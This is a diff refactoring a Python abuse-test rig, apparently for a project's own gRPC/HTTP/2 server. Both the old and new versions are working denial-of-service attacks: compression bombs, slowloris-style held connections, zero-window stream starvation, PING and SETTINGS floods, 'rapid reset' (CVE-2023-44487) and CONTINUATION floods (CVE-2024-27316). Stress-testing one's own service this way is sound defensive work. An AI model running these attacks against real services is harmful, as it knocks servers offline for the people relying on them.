@@ -17,183 +17,130 @@ import grpc
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from grpc_health.v1 import health_pb2
 
-from isthmus.experiments.rigs.abuse.http2 import (
-    CONTINUATION,
-    INITIAL_WINDOW,
-    PING,
-    PREFACE,
-    RST_STREAM,
-    SETTINGS,
-    Connection,
-    field,
-    frame,
-)
+from isthmus.experiments.rigs.abuse import http2
+from isthmus.experiments.rigs.abuse.http2 import Connection, field, frame
 from isthmus.protocol.secure.keys import Fingerprint
 from isthmus.protocol.service import METHOD, write_frame
 from isthmus.protocol.session import EdgeSession
 
 CHECK: Final = "/grpc.health.v1.Health/Check"
 WATCH: Final = "/grpc.health.v1.Health/Watch"
+STARVED: Final = http2.PREFACE + frame(http2.SETTINGS, 0, 0, struct.pack("!HI", http2.INITIAL_WINDOW, 0))
+"""Opens a connection, and leaves no window for any answer."""
 
-Attack = Callable[[str, int], AbstractContextManager[object]]
-
-
-@contextlib.contextmanager
-def compressed_watches(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
-    """Watch health under long names of zeros, compressed: a thousandth of what the server holds is sent."""
-    yield from _compressed(
-        host, port, WATCH, health_pb2.HealthCheckRequest(service="a" * size).SerializeToString(), count
-    )
+Attack = Callable[[str, int], AbstractContextManager[list[Connection]]]
 
 
-@contextlib.contextmanager
-def compressed_checks(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
-    """Ask for health under long names, compressed."""
-    yield from _compressed(
-        host, port, CHECK, health_pb2.HealthCheckRequest(service="a" * size).SerializeToString(), count
-    )
+def held(connect: Callable[[str, int], Connection], count: int = 2) -> Attack:
+    """Holds so many connections."""
+
+    @contextlib.contextmanager
+    def attack(host: str, port: int) -> Iterator[list[Connection]]:
+        with contextlib.ExitStack() as stack:
+            connections = []
+            for _ in range(count):
+                with contextlib.suppress(OSError):
+                    connections.append(stack.enter_context(connect(host, port)))
+            yield connections
+
+    return attack
 
 
-@contextlib.contextmanager
-def compressed_hellos(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
-    """Open sessions with long compressed frames."""
-    yield from _compressed(host, port, METHOD, bytes(size), count)
+def idle_connections(count: int = 256) -> Attack:
+    """Connects with HTTP/2, and opens no stream."""
+    return held(Connection, count)
 
 
-def _compressed(host: str, port: int, method: str, message: bytes, count: int) -> Iterator[None]:
-    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
-    with grpc.insecure_channel(f"{host}:{port}", options) as channel:
-        ask = channel.stream_stream(method)
-        stop = threading.Event()
-
-        def messages() -> Iterator[bytes]:
-            yield message
-            stop.wait()
-
-        calls = [ask(messages(), compression=grpc.Compression.Gzip) for _ in range(count)]
-        for call in calls:
-            with contextlib.suppress(grpc.RpcError):
-                call.initial_metadata()
-        try:
-            yield
-        finally:
-            stop.set()
-            for call in calls:
-                call.cancel()
-
-
-@contextlib.contextmanager
-def silent_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
-    """Connect, and say nothing."""
-    yield from _held(lambda: Connection(host, port, b"", mute=True), count)
-
-
-@contextlib.contextmanager
-def half_prefaces(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
-    """Connect, and stop in the middle of the preface."""
-    yield from _held(lambda: Connection(host, port, PREFACE[:-1], mute=True), count)
-
-
-@contextlib.contextmanager
-def idle_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
-    """Connect with HTTP/2, and open no stream."""
-    yield from _held(lambda: Connection(host, port), count)
-
-
-def _held(connect: Callable[[], Connection], count: int) -> Iterator[list[Connection]]:
-    with contextlib.ExitStack() as stack:
-        connections = []
-        for _ in range(count):
-            with contextlib.suppress(OSError):
-                connections.append(stack.enter_context(connect()))
-        yield connections
-
-
-@contextlib.contextmanager
-def silent_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
-    """Open sessions, and say nothing in them."""
-    yield from _streams(host, port, connections, streams, METHOD)
-
-
-@contextlib.contextmanager
-def silent_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
-    """Ask for health, and never say of what."""
-    yield from _streams(host, port, connections, streams, CHECK)
-
-
-@contextlib.contextmanager
-def large_headers(
-    host: str, port: int, connections: int = 2, streams: int = 256, size: int = 7000
-) -> Iterator[list[Connection]]:
-    """Open sessions with header fields as long as a server takes, and say nothing in them."""
-    yield from _streams(host, port, connections, streams, METHOD, field(b"x-long", b"a" * size))
-
-
-@contextlib.contextmanager
-def unfinished_messages(
-    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
-) -> Iterator[list[Connection]]:
-    """Open sessions, and send all but the last byte of a first frame."""
-    body = b"\0" + size.to_bytes(4) + bytes(size - 1)
-    yield from _streams(host, port, connections, streams, METHOD, b"", body)
-
-
-@contextlib.contextmanager
-def unfinished_checks(
-    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
-) -> Iterator[list[Connection]]:
-    """Ask for health, and send all but the last byte of a question."""
-    body = b"\0" + size.to_bytes(4) + bytes(size - 1)
-    yield from _streams(host, port, connections, streams, CHECK, b"", body)
-
-
-@contextlib.contextmanager
-def unread_frames(
-    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 23
-) -> Iterator[list[Connection]]:
-    """Open sessions, and send as many frames as the windows take, before the server has asked for any."""
-    body = (b"\0" + (1 << 14).to_bytes(4) + bytes(1 << 14)) * (size >> 14)
-    yield from _streams(host, port, connections, streams, METHOD, b"", body)
-
-
-def _streams(
-    host: str,
-    port: int,
-    connections: int,
-    streams: int,
+def open_streams(
     method: str,
+    *,
+    connections: int = 2,
+    streams: int = 256,
     extra: bytes = b"",
-    body: bytes = b"",
+    body: Callable[[], bytes] = bytes,
     opening: bytes | None = None,
-) -> Iterator[list[Connection]]:
-    def connect() -> Connection:
-        connection = Connection(host, port, opening)
+) -> Attack:
+    """Opens streams of a method, and leaves them open.
+
+    Args:
+        extra: further header fields, encoded.
+        body: makes what is sent of each stream's data, as far as the windows take it at once.
+    """
+
+    def connect(host: str, port: int) -> Connection:
+        connection, data = Connection(host, port, opening), body()
         opened = [connection.request(method, extra) for _ in range(streams)]
-        for stream in opened if body else ():
-            connection.data(stream, body, 0.02)
+        for stream in opened if data else ():
+            connection.data(stream, data, 0.02)
         return connection
 
-    yield from _held(connect, connections)
+    return held(connect, connections)
 
 
-@contextlib.contextmanager
-def starved_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
-    """Begin handshakes, and leave no window for the answers."""
-    starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
-    yield from _streams(host, port, connections, streams, METHOD, b"", _message(write_frame(_hello())), starved)
+def _compressed(method: str, message: Callable[[], bytes], count: int = 100) -> Attack:
+    @contextlib.contextmanager
+    def attack(host: str, port: int) -> Iterator[list[Connection]]:
+        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
+        with grpc.insecure_channel(f"{host}:{port}", options) as channel:
+            stop, raw = threading.Event(), message()
+
+            def messages() -> Iterator[bytes]:
+                yield raw
+                stop.wait()
+
+            ask = channel.stream_stream(method)
+            calls = [ask(messages(), compression=grpc.Compression.Gzip) for _ in range(count)]
+            for call in calls:
+                with contextlib.suppress(grpc.RpcError):
+                    call.initial_metadata()
+            try:
+                yield []
+            finally:
+                stop.set()
+                for call in calls:
+                    call.cancel()
+
+    return attack
 
 
-@contextlib.contextmanager
-def starved_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
-    """Ask for health, and leave no window for the answers."""
-    starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
-    yield from _streams(host, port, connections, streams, CHECK, b"", _message(b""), starved)
+def _flood(one: bytes) -> Attack:
+    def connect(host: str, port: int) -> Connection:
+        connection = Connection(host, port, deaf=True)
+        for _ in range(50):
+            connection.send(one * 1000)
+        return connection
+
+    return held(connect)
+
+
+def _reset_streams(host: str, port: int) -> Connection:
+    connection = Connection(host, port)
+    for _ in range(2000):
+        stream = connection.request(METHOD)
+        connection.send(frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4)))
+    return connection
+
+
+def _endless_headers(host: str, port: int) -> Connection:
+    connection = Connection(host, port)
+    stream = connection.request(METHOD, flags=0)
+    part = field(b"x-more", b"a" * 16_000)
+    for _ in range(500):
+        connection.send(frame(http2.CONTINUATION, 0, stream, part))
+    return connection
+
+
+def _long_question() -> bytes:
+    """Asks for health under a long name."""
+    raw: bytes = health_pb2.HealthCheckRequest(service="a" * 4_000_000).SerializeToString()
+    return raw
 
 
 def _hello() -> bytes:
     """The first frame of a handshake, of an edge that nobody has enrolled."""
     key = Ed25519PrivateKey.generate()
-    return EdgeSession(pin=Fingerprint.of(key.public_key().public_bytes_raw()), edge_key=key).start()
+    edge = EdgeSession(pin=Fingerprint.of(key.public_key().public_bytes_raw()), edge_key=key)
+    return _message(write_frame(edge.start()))
 
 
 def _message(raw: bytes) -> bytes:
@@ -201,78 +148,34 @@ def _message(raw: bytes) -> bytes:
     return b"\0" + len(raw).to_bytes(4) + raw
 
 
-@contextlib.contextmanager
-def pings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
-    """Send HTTP/2 pings, and read none of the acknowledgements."""
-    yield from _flood(host, port, connections, frame(PING, 0, 0, bytes(8)), count)
-
-
-@contextlib.contextmanager
-def settings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
-    """Send settings, and read none of the acknowledgements."""
-    yield from _flood(host, port, connections, frame(SETTINGS, 0, 0), count)
-
-
-def _flood(host: str, port: int, connections: int, one: bytes, count: int) -> Iterator[list[Connection]]:
-    def connect() -> Connection:
-        connection = Connection(host, port, deaf=True)
-        connection.limit(5.0)
-        for _ in range(count // 1000):
-            connection.send(one * 1000)
-        return connection
-
-    yield from _held(connect, connections)
-
-
-@contextlib.contextmanager
-def resets(host: str, port: int, connections: int = 2, count: int = 2000) -> Iterator[list[Connection]]:
-    """Open streams, and reset each at once (the "rapid reset" of CVE-2023-44487)."""
-
-    def connect() -> Connection:
-        connection = Connection(host, port)
-        for _ in range(count):
-            stream = connection.request(METHOD)
-            connection.send(frame(RST_STREAM, 0, stream, (8).to_bytes(4)))
-        return connection
-
-    yield from _held(connect, connections)
-
-
-@contextlib.contextmanager
-def continuations(host: str, port: int, connections: int = 2, count: int = 500) -> Iterator[list[Connection]]:
-    """Open a stream whose header fields do not end (CVE-2024-27316)."""
-
-    def connect() -> Connection:
-        connection = Connection(host, port)
-        stream = connection.request(METHOD, flags=0)
-        part = field(b"x-more", b"a" * 16_000)
-        for _ in range(count):
-            connection.send(frame(CONTINUATION, 0, stream, part))
-        return connection
-
-    yield from _held(connect, connections)
+def _unfinished() -> bytes:
+    """All but the last byte of a message of 1 MiB."""
+    return _message(bytes(1 << 20))[:-1]
 
 
 ATTACKS: Final[dict[str, Attack]] = {
-    attack.__name__: attack
-    for attack in (
-        compressed_watches,
-        compressed_checks,
-        compressed_hellos,
-        silent_connections,
-        half_prefaces,
-        idle_connections,
-        silent_streams,
-        silent_checks,
-        large_headers,
-        unfinished_messages,
-        unfinished_checks,
-        unread_frames,
-        starved_streams,
-        starved_checks,
-        pings,
-        settings,
-        resets,
-        continuations,
-    )
+    # Messages that the server would have to decompress: a thousandth of what it would hold is sent.
+    "compressed_watches": _compressed(WATCH, _long_question),
+    "compressed_checks": _compressed(CHECK, _long_question),
+    "compressed_hellos": _compressed(METHOD, lambda: bytes(4_000_000)),
+    # Connections on which nothing comes, half of the preface, and no stream.
+    "silent_connections": held(lambda host, port: Connection(host, port, b"", mute=True), 256),
+    "half_prefaces": held(lambda host, port: Connection(host, port, http2.PREFACE[:-1], mute=True), 256),
+    "idle_connections": idle_connections(),
+    # Streams in which nothing comes, the second with header fields as long as a server takes.
+    "silent_streams": open_streams(METHOD),
+    "silent_checks": open_streams(CHECK),
+    "large_headers": open_streams(METHOD, extra=field(b"x-long", b"a" * 7000)),
+    # All but the last byte of a message, and as many frames as the windows take before the server has asked for any.
+    "unfinished_messages": open_streams(METHOD, streams=64, body=_unfinished),
+    "unfinished_checks": open_streams(CHECK, streams=64, body=_unfinished),
+    "unread_frames": open_streams(METHOD, streams=64, body=lambda: _message(bytes(1 << 14)) * 512),
+    # Handshakes and questions whose answers are not taken.
+    "starved_streams": open_streams(METHOD, body=_hello, opening=STARVED),
+    "starved_checks": open_streams(CHECK, body=lambda: _message(b""), opening=STARVED),
+    # Frames whose acknowledgements are not read.
+    "pings": _flood(frame(http2.PING, 0, 0, bytes(8))),
+    "settings": _flood(frame(http2.SETTINGS, 0, 0)),
+    "resets": held(_reset_streams),  # "rapid reset", CVE-2023-44487
+    "continuations": held(_endless_headers),  # header fields that do not end, CVE-2024-27316
 }
